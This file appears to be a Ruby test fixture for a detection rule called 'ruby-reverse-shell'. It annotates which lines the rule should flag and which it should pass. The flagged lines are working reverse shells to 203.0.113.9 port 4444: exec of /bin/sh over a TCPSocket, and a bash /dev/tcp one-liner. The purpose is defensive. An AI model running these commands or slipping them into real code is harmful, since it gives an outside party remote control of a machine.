require "socket"

def call_home
  s = TCPSocket.new("203.0.113.9", 4444)
  # ruleid: ruby-reverse-shell
  exec("/bin/sh", in: s, out: s, err: s)
end

def call_again
  s = TCPSocket.open("203.0.113.9", 4444)
  # ruleid: ruby-reverse-shell
  $stdin.reopen(s)
  # ruleid: ruby-reverse-shell
  system("bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'")
end

def log_to(file)
  # ok: ruby-reverse-shell
  $stdout.reopen(file)
  # ok: ruby-reverse-shell
  spawn("make", in: file)
  # ok: ruby-reverse-shell
  system("nc -z localhost 25")
end
